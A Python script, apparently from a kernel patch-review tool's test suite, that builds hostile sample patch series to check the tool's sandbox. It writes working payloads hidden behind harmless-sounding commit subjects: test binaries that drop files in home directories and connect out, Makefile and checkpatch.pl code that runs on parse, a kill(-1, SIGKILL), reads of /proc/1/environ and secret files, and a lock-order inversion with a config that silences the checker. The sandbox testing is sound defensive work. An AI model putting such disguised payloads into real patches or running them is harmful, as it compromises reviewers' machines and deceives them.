#!/usr/bin/env python3
"""Re-create the hostile sample series (issue 11): series that attack the machine reviewing them.

    .venv/bin/python series/make_hostile_samples.py [OUTDIR]   # default: this script's directory

Real commits on the default 6.12 tree, like make_kernel_samples.py.  Each does what a stranger's
series could, and tests/test_sandbox.py runs them through the real CLI under bubblewrap:

  hostile-tests       (after vma-fix) multiorder.c's and vma.c's main() write $HOME/PWNED-mmreview, /root/...,
                      /tmp/PWNED-mmreview-<pid>, and connect to 127.0.0.1:47391 (the test listens)
  hostile-make        the radix-tree Makefile writes $HOME, /root, /tmp and compiler-cache files while
                      make parses it
  hostile-hang        the vma Makefile's build sleeps for a day
  hostile-checkpatch  scripts/checkpatch.pl writes a file when run
  hostile-review      .mmreview.toml ignores lock-order, mm/rmap.c's comment gets the series' own
                      order, and vma_prepare() takes anon_vma's lock before the file's i_mmap lock
  hostile-peek        (after vma-fix) multiorder prints what it can read of the host (BAIT: /etc,
                      /var/lib, /opt, a directory beside the trees in mmreview's cache, /proc/1's
                      command line and environment), appends to include/linux/maple_tree.h and
                      lib/xarray.c, and fails; the vma Makefile appends to mm/vma.h while make
                      reads it; xarray's child kills every process it can (kill(-1, SIGKILL))
"""
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from make_kernel_samples import Clone  # noqa: E402

PORT = 47391
DATE = "Mon, 16 Nov 2026 10:00:00 +0000"
SOB = "\n\nSigned-off-by: Ada Reviewer <ada@example.org>\n"

# What a test would do to phone home: its own HOME, root's, /tmp, a listener on the loopback.
PHONE_HOME = f"""
#include <arpa/inet.h>
#include <sys/socket.h>

static void leave_a_mark(void)
{{
	const char *dirs[] = {{ getenv("HOME"), "/root", "/tmp" }};
	struct sockaddr_in sa = {{ .sin_family = AF_INET, .sin_port = htons({PORT}) }};
	char path[4096];
	unsigned int i;
	FILE *f;
	int s;

	for (i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {{
		if (!dirs[i])
			continue;
		snprintf(path, sizeof(path), "%s/PWNED-mmreview-%d", dirs[i], getpid());
		f = fopen(path, "w");
		if (f) {{
			fputs("written by a test binary\\n", f);
			fclose(f);
		}}
	}}
	s = socket(AF_INET, SOCK_STREAM, 0);
	inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
	if (s >= 0 && connect(s, (struct sockaddr *)&sa, sizeof(sa)) == 0)
		write(s, "hello from a test binary\\n", 25);
	if (s >= 0)
		close(s);
}}
"""


def after_vma_fix() -> Clone:
    """A clone with the 6.12.y link fix (vma-fix.mbox) first, so that the vma harness builds and runs."""
    c = Clone("6.12", ["tools/testing/radix-tree/", "tools/testing/vma/"])
    c.git("apply", str(Path(__file__).resolve().parent / "vma-fix.mbox"))
    c.commit("tools/testing/vma: add vma_close() for the 6.12.y backport" + SOB, DATE)
    return c


def into_multiorder(c: Clone, code: str, call: str, subject: str) -> None:
    """`code` before multiorder's main(), `call` after its checks, as one commit."""
    c.edit("tools/testing/radix-tree/multiorder.c", "int __weak main(int argc, char **argv)\n{",
           code + "\nint __weak main(int argc, char **argv)\n{")
    c.edit("tools/testing/radix-tree/multiorder.c", "\tmultiorder_checks();\n",
           "\tmultiorder_checks();\n" + call)
    c.commit(subject + SOB, DATE)


def hostile_tests() -> None:
    c = after_vma_fix()
    into_multiorder(c, PHONE_HOME, "\tleave_a_mark();\n", "radix-tree: multiorder: report results to a collector")
    c.edit("tools/testing/vma/vma.c", "int main(void)\n{", PHONE_HOME + "\nint main(void)\n{")
    c.edit("tools/testing/vma/vma.c", "\tmaple_tree_init();\n", "\tmaple_tree_init();\n\tleave_a_mark();\n")
    c.commit("tools/testing/vma: report results to a collector" + SOB, DATE)
    c.write("hostile-tests", 3, cover=("radix-tree, vma: report results",
                                       "Both harnesses phone home.  Do not apply."))


def hostile_make() -> None:
    c = Clone("6.12", ["tools/testing/radix-tree/"])
    c.edit("tools/testing/radix-tree/Makefile", ".PHONY: clean\n",
           ".PHONY: clean\n\n"
           "# Runs while make reads this file, before any rule.\n"
           "MARK := $(shell id > $(HOME)/PWNED-mmreview-make; id > /root/PWNED-mmreview-make; "
           "id > /tmp/PWNED-mmreview-make; id > $(CCACHE_DIR)/PWNED-mmreview-make)\n")
    c.commit("radix-tree: record the build user" + SOB, DATE)
    c.write("hostile-make", 1)


def hostile_hang() -> None:
    c = Clone("6.12", ["tools/testing/vma/"])
    c.edit("tools/testing/vma/Makefile", "vma:\t$(OFILES)\n", "vma:\t$(OFILES) settle\n")
    c.edit("tools/testing/vma/Makefile", "clean:\n", "settle:\n\tsleep 86400\n\nclean:\n")
    c.commit("tools/testing/vma: let the file system settle before linking" + SOB, DATE)
    c.write("hostile-hang", 1)


def hostile_checkpatch() -> None:
    c = Clone("6.12", ["scripts/checkpatch.pl", "mm/vma.c"])
    c.edit("scripts/checkpatch.pl", "use strict;\n",
           "use strict;\n"
           "BEGIN { open(my $fh, '>', ($ENV{HOME} // '/root') . '/PWNED-mmreview-checkpatch'); }\n")
    c.commit("checkpatch: faster startup" + SOB, DATE)
    c.edit("mm/vma.c", "static void vma_prepare(struct vma_prepare *vp)\n{",
           "static void vma_prepare(struct vma_prepare *vp)\n{\n\t/* Prepare the locks. */")
    c.commit("mm/vma: comment vma_prepare()" + SOB, DATE)
    c.write("hostile-checkpatch", 2)


def hostile_review() -> None:
    c = Clone("6.12", ["mm/vma.c", "mm/rmap.c", ".mmreview.toml"])
    Path(c.path, ".mmreview.toml").write_text('ignore = ["lock-order"]\n')
    c.git("add", "-f", "--sparse", ".mmreview.toml")
    c.commit("mm: review settings" + SOB, DATE)
    c.edit("mm/rmap.c", " *             mapping->i_mmap_rwsem\n *               anon_vma->rwsem\n",
           " *             anon_vma->rwsem\n *               mapping->i_mmap_rwsem\n")
    c.commit("mm/rmap: update the lock ordering comment" + SOB, DATE)
    lock = ("\tif (vp->anon_vma) {\n\t\tanon_vma_lock_write(vp->anon_vma);\n"
            "\t\tanon_vma_interval_tree_pre_update_vma(vp->vma);\n\t\tif (vp->adj_next)\n"
            "\t\t\tanon_vma_interval_tree_pre_update_vma(vp->adj_next);\n\t}\n\n")
    c.edit("mm/vma.c", lock, "")
    c.edit("mm/vma.c", "static void vma_prepare(struct vma_prepare *vp)\n{\n",
           "static void vma_prepare(struct vma_prepare *vp)\n{\n" + lock)
    c.commit("mm/vma: take the anon_vma lock first in vma_prepare()" + SOB, DATE)
    c.write("hostile-review", 3, cover=("mm: lock anon_vma first", "The new order, documented."))


# What hostile-peek reads (tests/test_sandbox.py puts random content there): files anyone may read.
BAIT = ("/etc/mmreview-bait.conf", "/var/lib/mmreview-bait/token", "/opt/mmreview-bait/secret")
BAIT_BESIDE_TREES = "trees/mmreview-bait/secret"     # under mmreview's cache, found from the cwd

PEEK = """
#include <errno.h>
#include <fcntl.h>
#include <string.h>

static void show(const char *path)
{
	char buf[4096];
	ssize_t n, i;
	int fd = open(path, O_RDONLY);

	if (fd < 0) {
		printf("peek %s: %s\\n", path, strerror(errno));
		return;
	}
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	for (i = 0; i < n; i++)
		if (buf[i] == 0 || buf[i] == '\\n')
			buf[i] = ' ';
	buf[n > 0 ? n : 0] = 0;
	printf("peek %s: %s\\n", path, buf);
}

static int peek_and_poke(void)
{
	static const char *const files[] = { @BAIT@, "/proc/1/cmdline", "/proc/1/environ", NULL };
	static const char *const sources[] = { "../../../include/linux/maple_tree.h", "../../../lib/xarray.c", NULL };
	const char *const *f;
	char path[4096], *cut;
	FILE *out;

	if (getcwd(path, sizeof(path) - 64) && (cut = strstr(path, "/matrix-work/"))) {
		strcpy(cut + 1, "@BESIDE@");
		show(path);
	}
	for (f = files; *f; f++)
		show(*f);
	for (f = sources; *f; f++) {
		out = fopen(*f, "a");
		printf("poke %s: %s\\n", *f, out ? "appended" : strerror(errno));
		if (out) {
			fputs("/* from a test binary */\\n", out);
			fclose(out);
		}
	}
	return 1;
}
""".replace("@BAIT@", ", ".join(f'"{b}"' for b in BAIT)).replace("@BESIDE@", BAIT_BESIDE_TREES)

KILL_ALL = """
#include <signal.h>
#include <sys/wait.h>

static void kill_all(void)
{
	if (fork() == 0) {
		kill(-1, SIGKILL);
		_exit(0);
	}
	wait(NULL);
	sleep(5);
}
"""


def hostile_peek() -> None:
    c = after_vma_fix()
    into_multiorder(c, PEEK, "\tif (peek_and_poke())\n\t\treturn 1;\n",
                    "radix-tree: multiorder: print the test environment")
    c.edit("tools/testing/vma/Makefile", ".PHONY: default clean\n",
           ".PHONY: default clean\n\n# Runs while make reads this file, before any rule.\n"
           "STAMP := $(shell echo '/* built */' >> ../../../mm/vma.h)\n")
    c.commit("tools/testing/vma: stamp the header" + SOB, DATE)
    c.edit("tools/testing/radix-tree/xarray.c", "int __weak main(void)\n{",
           KILL_ALL + "\nint __weak main(void)\n{\n\tkill_all();")
    c.commit("radix-tree: xarray: start from a clean process table" + SOB, DATE)
    c.write("hostile-peek", 4, cover=("radix-tree, vma: look around",
                                      "Reads the host, writes the sources, kills everything.  Do not apply."))


if __name__ == "__main__":
    for make in (hostile_tests, hostile_make, hostile_hang, hostile_checkpatch, hostile_review, hostile_peek):
        make()
